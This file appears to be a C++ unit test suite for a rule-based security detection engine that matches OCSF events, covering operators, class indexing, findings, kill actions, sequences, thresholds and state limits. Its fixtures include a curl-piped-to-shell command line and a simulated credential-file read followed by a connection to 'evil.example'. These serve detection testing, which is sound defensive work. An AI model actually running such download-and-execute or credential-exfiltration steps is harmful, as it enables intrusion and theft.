// The engine's semantics on small hand-written events: operators, arrays, missing fields, the
// class index, titles, findings and actions, sequences, thresholds, first_seen, run-time failures
// and its bounds.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "detect/engine.h"
#include "detect/rule_set.h"
#include "ocsf/jsonl_formatter.h"
#include "ocsf/shorthand.h"
#include "trail.h"

namespace warden::detect {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;

std::shared_ptr<const RuleSet> rules(const std::string& yaml) {
  Diagnostics d;
  RuleSetOptions options;
  options.builtin_rules = false;
  auto r = RuleSet::compile({RuleSource{"test.yaml", yaml}}, options, &d);
  EXPECT_TRUE(r.ok()) << d.toString();
  return r.ok() ? r.value() : nullptr;
}

// A Process Activity launch with the given extra members (a JSON object's inner text).
std::string procEvent(int64_t seq, const std::string& process, const std::string& extra = "", int64_t time = 1000,
                      const std::string& session = "s1") {
  return R"({"activity_id":1,"class_uid":1007,"device":{"container":{"name":"agent-7","uid":")" + session +
         R"("},"hostname":"h"},"metadata":{"correlation_uid":")" + session + R"(","sequence":)" + std::to_string(seq) +
         R"(,"uid":"uid-)" + std::to_string(seq) + R"("},"process":)" + process + R"(,"time":)" + std::to_string(time) +
         R"(,"type_name":"Process Activity: Launch","type_uid":100701)" + (extra.empty() ? "" : "," + extra) + "}";
}

// Rule names of the findings in `out`.
std::vector<std::string> fired(const EngineOutput& out) {
  std::vector<std::string> names;
  for (const auto& e : out.events) {
    if (e.finding_info) names.push_back(e.finding_info->analytic_name);
  }
  return names;
}

std::vector<std::string> evalOne(const std::string& yaml, const std::string& event) {
  Engine engine(rules(yaml));
  EngineOutput out;
  engine.evaluate(event, out);
  return fired(out);
}

TEST(EngineTest, ComparesStringsNumbersAndBooleans) {
  const std::string e = procEvent(1, R"({"name":"sh","pid":42,"cmd_line":"sh -c x"})", R"("unmapped":{"flag":true})");
  EXPECT_THAT(evalOne("rules: [{name: a, condition: process.name = \"sh\"}]", e), ElementsAre("a"));
  EXPECT_THAT(evalOne("rules: [{name: a, condition: process.name != \"bash\"}]", e), ElementsAre("a"));
  EXPECT_THAT(evalOne("rules: [{name: a, condition: process.pid = 42}]", e), ElementsAre("a"));
  EXPECT_THAT(evalOne("rules: [{name: a, condition: process.pid >= 42 and process.pid < 43}]", e), ElementsAre("a"));
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: process.pid > 42}]", e).empty());
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.flag = true}]", e), ElementsAre("a"));
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: unmapped.flag = false}]", e).empty());
  // A value of another JSON type than the literal never matches.
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: unmapped.flag = 1}]", e).empty());
}

TEST(EngineTest, LargeIntegersCompareExactly) {
  const std::string e = procEvent(1, R"({"name":"sh","pid":1})", R"("unmapped":{"n":9007199254740993})");
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.n = 9007199254740993}]", e), ElementsAre("a"));
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: unmapped.n = 9007199254740992}]", e).empty());
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.n > 9007199254740992}]", e), ElementsAre("a"));
}

TEST(EngineTest, APathIntoAnArrayMatchesIfAnyElementMatches) {
  const std::string e = procEvent(1, R"({"name":"curl","pid":1})",
                                  R"("unmapped":{"argv":["curl","-s","https://x"],"calls":[{"name":"a"},{"name":"b"}]})");
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.argv = \"-s\"}]", e), ElementsAre("a"));
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.calls.name = \"b\"}]", e), ElementsAre("a"));
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: unmapped.calls.name = \"c\"}]", e).empty());
  // Any element: != is true when some element differs.
  EXPECT_THAT(evalOne("rules: [{name: a, condition: unmapped.calls.name != \"a\"}]", e), ElementsAre("a"));
}

TEST(EngineTest, AMissingFieldMakesEveryComparisonFalseIncludingNotEquals) {
  const std::string e = procEvent(1, R"({"name":"sh","pid":1})");
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: process.cmd_line != \"x\"}]", e).empty());
  EXPECT_TRUE(evalOne("rules: [{name: a, condition: process.cmd_line exists}]", e).empty());
  EXPECT_THAT(evalOne("rules: [{name: a, condition: not process.cmd_line = \"x\"}]", e), ElementsAre("a"));
  EXPECT_THAT(evalOne("rules: [{name: a, condition: not process.cmd_line exists}]", e), ElementsAre("a"));
}

TEST(EngineTest, StringOperators) {
  const std::string e = procEvent(1, R"({"name":"sh","pid":1,"cmd_line":"curl -s https://Get.Example/i.sh | sh",)"
                                     R"("file":{"name":"sh","path":"/usr/bin/sh","type_id":1}})");
  const auto one = [&](const std::string& cond) {
    return evalOne("rules: [{name: a, condition: '" + cond + "'}]", e).size() == 1;
  };
  EXPECT_TRUE(one("process.cmd_line contains \"https://Get\""));
  EXPECT_FALSE(one("process.cmd_line contains \"https://get\""));
  EXPECT_TRUE(one("process.cmd_line icontains \"GET.EXAMPLE\""));
  EXPECT_TRUE(one("process.cmd_line startswith \"curl \""));
  EXPECT_TRUE(one("process.cmd_line endswith \"| sh\""));
  EXPECT_TRUE(one("process.file.path glob \"/usr/*/sh\""));
  EXPECT_FALSE(one("process.file.path glob \"/usr/*\""));     // a path glob: * stays within a segment
  EXPECT_TRUE(one("process.file.path glob \"/usr/**\""));
  EXPECT_TRUE(one("process.cmd_line glob \"*i.sh*\""));       // a text glob: * spans anything
  EXPECT_TRUE(one("process.cmd_line regex \"(curl|wget)[^|]*\\|\\s*sh\""));  // regex searches
  EXPECT_FALSE(one("process.cmd_line regex \"^sh\""));
  EXPECT_TRUE(one("process.cmd_line startswith (\"wget\", \"curl\")"));  // a set: any item
}

TEST(EngineTest, InTakesListsAndLiteralsAndLargeSetsStillMatchExactly) {
  std::string many = "[";
  for (int i = 0; i < 50; ++i) many += (i ? ", n" : "n") + std::to_string(i);
  many += ", sh]";
  const std::string yaml = "lists:\n  names: " + many + "\n  nums: [1, 2, 42]\nrules:\n"
                           "  - name: by-name\n    condition: process.name in (names, \"zsh\")\n"
                           "  - name: by-pid\n    condition: process.pid in (nums)\n";
  EXPECT_THAT(evalOne(yaml, procEvent(1, R"({"name":"sh","pid":42})")), ElementsAre("by-name", "by-pid"));
  EXPECT_THAT(evalOne(yaml, procEvent(1, R"({"name":"zsh","pid":7})")), ElementsAre("by-name"));
  EXPECT_TRUE(evalOne(yaml, procEvent(1, R"({"name":"s","pid":7})")).empty());
}

TEST(EngineTest, RulesAreIndexedByClassSoAnEventMeetsOnlyRulesForItsClass) {
  const auto set = rules(R"(rules:
  - name: proc
    condition: class_uid = 1007 and process.name exists
  - name: net-or-http
    condition: class_uid in (4001, 4002)
  - name: anything
    condition: severity_id >= 0
)");
  auto names = [&](int64_t cls) {
    std::vector<std::string> out;
    for (const auto& ref : set->forClass(classIndex(cls))) out.push_back(set->rules()[ref.rule].name);
    return out;
  };
  EXPECT_THAT(names(1007), ElementsAre("proc", "anything"));
  EXPECT_THAT(names(4001), ElementsAre("net-or-http", "anything"));
  EXPECT_THAT(names(4002), ElementsAre("net-or-http", "anything"));
  EXPECT_THAT(names(1001), ElementsAre("anything"));
}

TEST(EngineTest, ClassChecksTheIndexGuaranteesAreDroppedFromTheCompiledStepAndOthersKept) {
  const auto set = rules(R"(rules:
  - name: one
    condition: spawned_exec and process.name = "x"
  - name: two
    condition: class_uid in (4001, 4002) and (class_uid = 4001 or dst_endpoint.port = 80)
  - name: bare
    condition: class_uid = 1001
)");
  const auto& r = set->rules();
  // spawned_exec = class_uid = 1007 and activity_id = 1 and not status_id = 2: three checks stay.
  ASSERT_EQ(r[0].steps[0].kind, CompiledNode::Kind::kAnd);
  ASSERT_EQ(r[0].steps[0].children.size(), 3u);
  for (const auto& c : r[0].steps[0].children) EXPECT_NE(c.path.text(), "class_uid");
  // The `or` is not a top-level conjunct: it stays whole.
  EXPECT_EQ(r[1].steps[0].kind, CompiledNode::Kind::kOr);
  EXPECT_EQ(r[2].steps[0].kind, CompiledNode::Kind::kTrue);
  EXPECT_THAT(evalOne("rules: [{name: a, condition: class_uid = 1007}]", procEvent(1, R"({"name":"sh","pid":1})")),
              ElementsAre("a"));
}

TEST(EngineTest, AFindingNamesTheRuleItsEvidenceAndFillsTheTitle) {
  Engine engine(rules(R"(rules:
  - name: pipe-download-to-shell
    desc: a shell reads a script piped from a downloader
    condition: spawned_exec and process.parent_process.cmd_line contains "| sh"
    severity: high
    confidence: high
    attack: [T1059.004, TA0002]
    title: "Downloaded script piped to %{process.name} by %{actor.process.name}"
)"));
  EngineOutput out;
  const std::string event = procEvent(17, R"({"name":"sh","pid":9,"parent_process":{"name":"sh","pid":8,"cmd_line":"sh -c curl x | sh"}})");
  EXPECT_EQ(engine.evaluate(event, out), EvalStatus::kEvaluated);
  ASSERT_EQ(out.events.size(), 1u);
  const ocsf::Event& f = out.events[0];
  EXPECT_EQ(ocsf::toShorthand(f),
            "FINDING:CREATED [HIGH] \"Downloaded script piped to sh by -\" [rule:pipe-download-to-shell]");
  const auto j = nlohmann::json::parse(ocsf::toJsonl(f));
  EXPECT_EQ(j["class_uid"], 2004);
  EXPECT_EQ(j["finding_info"]["types"], nlohmann::json::array({"pipe-download-to-shell"}));
  EXPECT_EQ(j["finding_info"]["analytic"]["name"], "pipe-download-to-shell");
  EXPECT_EQ(j["finding_info"]["analytic"]["type_id"], 1);
  EXPECT_EQ(j["finding_info"]["desc"], "a shell reads a script piped from a downloader");
  EXPECT_EQ(j["evidences"][0]["uid"], "uid-17");
  EXPECT_EQ(j["evidences"][0]["data"]["sequence"], 17);
  EXPECT_EQ(j["evidences"][0]["process"]["name"], "sh");
  EXPECT_EQ(j["attacks"][0]["technique"]["uid"], "T1059.004");
  EXPECT_EQ(j["attacks"][0]["tactic"]["uid"], "TA0002");
  EXPECT_EQ(j["attacks"][0]["tactic"]["name"], "Execution");
  EXPECT_EQ(j["is_alert"], true);
  EXPECT_EQ(j["risk_level_id"], 3);
  EXPECT_EQ(j["confidence_id"], 3);
  EXPECT_EQ(j["time"], 1000);  // the trigger's time: replaying gives the same findings
  EXPECT_EQ(j["metadata"]["correlation_uid"], "s1");
  EXPECT_EQ(j["device"]["container"]["name"], "agent-7");
  ASSERT_EQ(out.actions.size(), 1u);
  EXPECT_EQ(out.actions[0].kind, ActionKind::kAlert);
  EXPECT_EQ(out.actions[0].trigger_sequence, 17u);
  EXPECT_EQ(out.actions[0].trigger_uid, "uid-17");
  EXPECT_EQ(out.actions[0].finding_uid, j["finding_info"]["uid"]);
}

TEST(EngineTest, AKillRuleOutputsTheActionWithTheSessionAndTheShorthandSaysSo) {
  Engine engine(rules("rules: [{name: no-root, condition: process.euid = 0, action: kill, severity: critical}]"));
  EngineOutput out;
  engine.evaluate(procEvent(3, R"({"name":"sudo","pid":9,"euid":0})", "", 1000, "sess-9"), out);
  ASSERT_EQ(out.actions.size(), 1u);
  EXPECT_EQ(out.actions[0].kind, ActionKind::kKill);
  EXPECT_EQ(out.actions[0].rule, "no-root");
  EXPECT_EQ(out.actions[0].session_id, "sess-9");
  EXPECT_EQ(ocsf::toShorthand(out.events[0]), "FINDING:CREATED [CRIT] \"no-root\" [rule:no-root action:kill]");
}

TEST(EngineTest, LongTitleValuesAreCut) {
  Engine engine(rules("rules: [{name: t, condition: process.pid = 1, title: 'ran %{process.cmd_line}'}]"));
  EngineOutput out;
  engine.evaluate(procEvent(1, R"({"name":"sh","pid":1,"cmd_line":")" + std::string(5000, 'x') + R"("})"), out);
  ASSERT_EQ(out.events.size(), 1u);
  EXPECT_EQ(out.events[0].finding_info->title, "ran " + std::string(200, 'x') + "...");
}

TEST(EngineTest, RulesNeverSeeTheirOwnFindingsAndBadLinesAreCounted) {
  Engine engine(rules("rules: [{name: any-high, condition: severity_id >= 4}]"));
  EngineOutput out;
  engine.evaluate(procEvent(1, R"({"name":"sh","pid":1})", R"("severity_id":4)"), out);
  ASSERT_EQ(out.events.size(), 1u);
  const std::string finding = ocsf::toJsonl(out.events[0]);
  EngineOutput again;
  EXPECT_EQ(engine.evaluate(finding, again), EvalStatus::kIgnored);
  EXPECT_TRUE(again.events.empty());
  EXPECT_EQ(engine.evaluate("not json", again), EvalStatus::kUnparsable);
  EXPECT_EQ(engine.evaluate("[1,2]", again), EvalStatus::kUnparsable);
  EXPECT_EQ(engine.evaluate(R"({"class_uid":"x"})", again), EvalStatus::kIgnored);
  EXPECT_EQ(engine.stats().unparsable, 2u);
  EXPECT_EQ(engine.stats().findings, 1u);
}

// ----- sequences -----

std::string fileRead(int64_t seq, int64_t time, int64_t pid, int64_t ppid, const std::string& session = "s1") {
  return R"({"activity_id":2,"actor":{"process":{"name":"cat","parent_process":{"name":"sh","pid":)" +
         std::to_string(ppid) + R"(},"pid":)" + std::to_string(pid) +
         R"(}},"class_uid":1001,"file":{"name":"credentials","path":"/home/agent/.aws/credentials","type_id":1},)"
         R"("metadata":{"correlation_uid":")" + session + R"(","sequence":)" + std::to_string(seq) + R"(,"uid":"uid-)" +
         std::to_string(seq) + R"("},"time":)" + std::to_string(time) + R"(,"unmapped":{"sensitive":true}})";
}

std::string netOpen(int64_t seq, int64_t time, int64_t pid, const std::string& session = "s1", int64_t ppid = -1) {
  const std::string parent = ppid >= 0 ? R"(,"parent_process":{"name":"sh","pid":)" + std::to_string(ppid) + "}" : "";
  return R"({"activity_id":1,"actor":{"process":{"name":"curl")" + parent + R"(,"pid":)" + std::to_string(pid) +
         R"(}},"class_uid":4001,"dst_endpoint":{"hostname":"evil.example","port":443},)"
         R"("metadata":{"correlation_uid":")" + session + R"(","sequence":)" + std::to_string(seq) + R"(,"uid":"uid-)" +
         std::to_string(seq) + R"("},"time":)" + std::to_string(time) + "}";
}

const char* kExfil = R"(rules:
  - name: exfil
    sequence:
      - class_uid = 1001 and unmapped.sensitive = true
      - class_uid = 4001 and activity_id = 1
    within: 60s
    same: %s
    title: "egress to %{dst_endpoint.hostname}"
)";

std::string exfilRule(const std::string& same) {
  std::string y = kExfil;
  y.replace(y.find("%s"), 2, same);
  return y;
}

TEST(EngineSequenceTest, FiresWhenTheSecondStepFollowsWithinTheWindowAndNamesBothEvents) {
  Engine engine(rules(exfilRule("session")));
  EngineOutput out;
  engine.evaluate(fileRead(1, 1000, 301, 300), out);
  EXPECT_TRUE(out.events.empty());
  engine.evaluate(netOpen(2, 60'999, 999), out);
  ASSERT_EQ(out.events.size(), 1u);
  const auto j = nlohmann::json::parse(ocsf::toJsonl(out.events[0]));
  ASSERT_EQ(j["evidences"].size(), 2u);
  EXPECT_EQ(j["evidences"][0]["data"]["sequence"], 1);
  EXPECT_EQ(j["evidences"][0]["file"]["path"], "/home/agent/.aws/credentials");
  EXPECT_EQ(j["evidences"][1]["data"]["sequence"], 2);
  EXPECT_EQ(j["evidences"][1]["dst_endpoint"]["hostname"], "evil.example");
  EXPECT_EQ(out.events[0].finding_info->title, "egress to evil.example");
}

TEST(EngineSequenceTest, DoesNotFireOutsideTheWindowInAnotherSessionOrInTheWrongOrder) {
  {
    Engine engine(rules(exfilRule("session")));
    EngineOutput out;
    engine.evaluate(fileRead(1, 1000, 301, 300), out);
    engine.evaluate(netOpen(2, 61'001, 302), out);
    EXPECT_TRUE(out.events.empty());
  }
  {
    Engine engine(rules(exfilRule("session")));
    EngineOutput out;
    engine.evaluate(fileRead(1, 1000, 301, 300, "s1"), out);
    engine.evaluate(netOpen(2, 2000, 302, "s2"), out);
    EXPECT_TRUE(out.events.empty());
  }
  {
    Engine engine(rules(exfilRule("session")));
    EngineOutput out;
    engine.evaluate(netOpen(1, 1000, 302), out);
    engine.evaluate(fileRead(2, 2000, 301, 300), out);
    EXPECT_TRUE(out.events.empty());
  }
}

TEST(EngineSequenceTest, SameProcessNeedsTheSamePid) {
  Engine engine(rules(exfilRule("process")));
  EngineOutput out;
  engine.evaluate(fileRead(1, 1000, 301, 300), out);
  engine.evaluate(netOpen(2, 2000, 302), out);
  EXPECT_TRUE(out.events.empty());
  engine.evaluate(netOpen(3, 3000, 301), out);
  EXPECT_EQ(out.events.size(), 1u);
}

TEST(EngineSequenceTest, SameProcessTreeRelatesSiblingsDescendantsAndAncestorsButNotStrangers) {
  // A: cat (301) under sh (300). Siblings under 300, its children, and its parent relate.
  auto run = [&](const std::vector<std::string>& lines) {
    Engine engine(rules(exfilRule("process_tree")));
    return test::replay(engine, lines).events.size();
  };
  EXPECT_EQ(run({fileRead(1, 1000, 301, 300), netOpen(2, 2000, 302, "s1", 300)}), 1u);  // sibling
  EXPECT_EQ(run({fileRead(1, 1000, 301, 300), netOpen(2, 2000, 300)}), 1u);             // its parent
  EXPECT_EQ(run({fileRead(1, 1000, 301, 300), netOpen(2, 2000, 305, "s1", 301)}), 1u);  // its child
  EXPECT_EQ(run({fileRead(1, 1000, 301, 300), netOpen(2, 2000, 402, "s1", 400)}), 0u);  // a stranger
  EXPECT_EQ(run({fileRead(1, 1000, 301, 300), netOpen(2, 2000, 402)}), 0u);             // unknown ancestry
}

TEST(EngineSequenceTest, ProcessTreeUsesTheLaunchesItHasSeenWhenAnEventCarriesOnlyThePid) {
  // The proxy names the caller by pid only; PROC:LAUNCH events taught the engine 310 -> 305 -> 300.
  Engine engine(rules(exfilRule("process_tree")));
  EngineOutput out;
  engine.evaluate(procEvent(1, R"({"name":"python3","pid":305,"parent_process":{"name":"sh","pid":300}})", "", 500), out);
  engine.evaluate(procEvent(2, R"({"name":"curl","pid":310,"parent_process":{"name":"python3","pid":305}})", "", 600), out);
  engine.evaluate(fileRead(3, 1000, 301, 300), out);
  engine.evaluate(netOpen(4, 2000, 310), out);
  EXPECT_EQ(out.events.size(), 1u);
}

TEST(EngineSequenceTest, ABurstOfStartsCompletesOnceAndLaterStartsCanCompleteAgain) {
  Engine engine(rules(exfilRule("session")));
  EngineOutput out;
  for (int i = 0; i < 5; ++i) engine.evaluate(fileRead(i + 1, 1000 + i, 301, 300), out);
  engine.evaluate(netOpen(6, 2000, 302), out);
  engine.evaluate(netOpen(7, 2001, 302), out);
  EXPECT_EQ(out.events.size(), 1u);
  engine.evaluate(fileRead(8, 3000, 301, 300), out);
  engine.evaluate(netOpen(9, 3001, 302), out);
  EXPECT_EQ(out.events.size(), 2u);
}

TEST(EngineSequenceTest, JoinRequiresAValueOfTheFirstStepInTheLastStep) {
  const auto set = rules(R"(rules:
  - name: join
    sequence:
      - class_uid = 1001
      - class_uid = 1007
    within: 1m
    join: [actor.process.name, process.name]
)");
  Engine engine(set);
  EngineOutput out;
  engine.evaluate(fileRead(1, 1000, 301, 300), out);  // actor cat
  engine.evaluate(procEvent(2, R"({"name":"sh","pid":1})", "", 1100), out);
  EXPECT_TRUE(out.events.empty());
  engine.evaluate(procEvent(3, R"({"name":"cat","pid":1})", "", 1200), out);
  EXPECT_EQ(out.events.size(), 1u);
}

TEST(EngineSequenceTest, PendingStartsAreBoundedAndTheDropIsRecordedOnce) {
  EngineOptions options;
  options.limits.max_partials_per_rule = 3;
  Engine engine(rules(exfilRule("session")), options);
  EngineOutput out;
  for (int i = 0; i < 10; ++i) engine.evaluate(fileRead(i + 1, 1000 + i, 301, 300), out);
  EXPECT_EQ(engine.stats().partials_evicted, 7u);
  ASSERT_EQ(out.events.size(), 1u);
  EXPECT_THAT(ocsf::toShorthand(out.events[0]), HasSubstr("EVENT:DETECTION_LIMIT [MED]"));
  EXPECT_THAT(ocsf::toShorthand(out.events[0]), HasSubstr("more than 3 sequence starts"));
}

// ----- thresholds -----

std::string denied(int64_t seq, int64_t time, int64_t count = 0) {
  return R"({"action_id":2,"activity_id":1,"class_uid":4001,)" +
         (count > 0 ? R"("count":)" + std::to_string(count) + "," : std::string()) +
         R"("dst_endpoint":{"hostname":"h)" + std::to_string(seq) + R"(.example","port":443},)"
         R"("metadata":{"correlation_uid":"s1","sequence":)" + std::to_string(seq) + R"(,"uid":"uid-)" +
         std::to_string(seq) + R"("},"time":)" + std::to_string(time) + "}";
}

const char* kBurst = R"yaml(rules:
  - name: burst
    condition: class_uid = 4001 and action_id = 2
    threshold: 5
    within: 10s
    title: "burst (last %{dst_endpoint.hostname})"
)yaml";

TEST(EngineThresholdTest, FiresWhenTheCountIsReachedWithinTheWindowThenStaysQuietForAWindow) {
  Engine engine(rules(kBurst));
  EngineOutput out;
  for (int i = 1; i <= 4; ++i) engine.evaluate(denied(i, 1000 * i), out);
  EXPECT_TRUE(out.events.empty());
  engine.evaluate(denied(5, 5000), out);
  ASSERT_EQ(out.events.size(), 1u);
  const auto j = nlohmann::json::parse(ocsf::toJsonl(out.events[0]));
  ASSERT_EQ(j["evidences"].size(), 2u);
  EXPECT_EQ(j["evidences"][0]["data"]["sequence"], 1);
  EXPECT_EQ(j["evidences"][1]["data"]["sequence"], 5);
  EXPECT_EQ(out.events[0].finding_info->title, "burst (last h5.example)");
  for (int i = 6; i <= 20; ++i) engine.evaluate(denied(i, 5000 + 100 * i), out);  // within the quiet window
  EXPECT_EQ(out.events.size(), 1u);
  for (int i = 21; i <= 25; ++i) engine.evaluate(denied(i, 16'000 + i), out);
  EXPECT_EQ(out.events.size(), 2u);
}

TEST(EngineThresholdTest, EventsSpreadWiderThanTheWindowNeverFire) {
  Engine engine(rules(kBurst));
  EngineOutput out;
  for (int i = 1; i <= 50; ++i) engine.evaluate(denied(i, 3000 * i), out);
  EXPECT_TRUE(out.events.empty());
}

TEST(EngineThresholdTest, ACoalescedEventCountsForItsCount) {
  Engine engine(rules(kBurst));
  EngineOutput out;
  engine.evaluate(denied(1, 1000), out);
  engine.evaluate(denied(2, 1001, 4), out);
  EXPECT_EQ(out.events.size(), 1u);
}

// ----- first_seen and run-time failures -----

TEST(EngineFleetTest, FirstSeenIsTrueOnceAcrossEnginesThatShareTheState) {
  const auto set = rules(R"(rules:
  - name: new-domain
    condition: class_uid = 4001 and activity_id = 1 and first_seen(dst_endpoint.hostname)
  - name: new-pair
    condition: class_uid = 4001 and first_seen(dst_endpoint.hostname, dst_endpoint.port)
)");
  auto fleet = std::make_shared<InMemoryFleetState>();
  EngineOptions options;
  options.fleet = fleet;
  Engine a(set, options);
  Engine b(set, options);
  EngineOutput out;
  a.evaluate(netOpen(1, 1000, 5, "s1"), out);
  EXPECT_THAT(fired(out), ElementsAre("new-domain", "new-pair"));
  out.clear();
  b.evaluate(netOpen(1, 2000, 5, "s2"), out);  // another session: seen before
  EXPECT_TRUE(out.events.empty());
  // The rules keep separate key spaces: neither consumed the other's sighting.
  EXPECT_EQ(fleet->size(), 2u);
}

TEST(EngineFleetTest, ARuleThatFailsAtRunTimeIsDisabledWithOneRecordedErrorAndTheOthersGoOn) {
  const auto set = rules(R"(rules:
  - name: new-domain
    condition: class_uid = 4001 and first_seen(dst_endpoint.hostname)
  - name: every-open
    condition: class_uid = 4001
)");
  EngineOptions options;
  options.fleet = std::make_shared<InMemoryFleetState>(1);  // full after one value
  Engine engine(set, options);
  EngineOutput out;
  engine.evaluate(netOpen(1, 1000, 5), out);
  EXPECT_THAT(fired(out), ElementsAre("new-domain", "every-open"));
  out.clear();
  std::string other = netOpen(2, 2000, 5);
  other.replace(other.find("evil.example"), 12, "next.example");
  engine.evaluate(other, out);
  ASSERT_EQ(out.events.size(), 2u);
  EXPECT_EQ(ocsf::toShorthand(out.events[0]).rfind("CONFIG:DEGRADED [MED] detection rule 'new-domain' disabled: ", 0), 0u)
      << ocsf::toShorthand(out.events[0]);
  EXPECT_THAT(fired(out), ElementsAre("every-open"));
  out.clear();
  for (int i = 3; i < 10; ++i) engine.evaluate(netOpen(i, 1000 * i, 5), out);
  EXPECT_THAT(fired(out), ::testing::Each(std::string("every-open")));
  EXPECT_EQ(out.events.size(), 7u);  // no second error event
  EXPECT_EQ(engine.stats().rules_disabled, 1u);
  EXPECT_THAT(engine.disabledRules(), ElementsAre("new-domain"));
}

TEST(EngineFleetTest, SessionStateIsBoundedAndTheEvictionIsRecordedOnce) {
  EngineOptions options;
  options.limits.max_sessions = 2;
  Engine engine(rules(exfilRule("session")), options);
  EngineOutput out;
  for (int s = 0; s < 5; ++s) engine.evaluate(fileRead(1, 1000, 301, 300, "s" + std::to_string(s)), out);
  EXPECT_EQ(engine.stats().sessions_evicted, 3u);
  ASSERT_EQ(out.events.size(), 1u);
  EXPECT_THAT(ocsf::toShorthand(out.events[0]), HasSubstr("EVENT:DETECTION_LIMIT"));
}

}  // namespace
}  // namespace warden::detect
